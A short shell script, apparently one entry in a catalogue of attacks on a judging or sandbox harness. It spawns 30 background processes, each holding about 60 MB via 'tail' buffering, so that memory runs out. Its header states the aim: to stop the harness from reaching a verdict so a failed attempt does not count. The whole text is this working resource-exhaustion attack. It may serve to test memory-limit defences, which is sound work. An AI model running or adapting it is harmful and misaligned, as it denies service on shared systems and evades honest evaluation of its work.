# ---
# tries: Takes memory in many processes, each of them a little.
# place: before
# gain: no verdict, so that the attempt may not count
# helps: memory-limit
# ---
attack_count=0
while [ "$attack_count" -lt 30 ]; do
  attack_count=$((attack_count + 1))
  (
    head -c 60000000 /dev/zero
    sleep 25
  ) | tail -n 1 > /dev/null &
done 2>/dev/null
wait
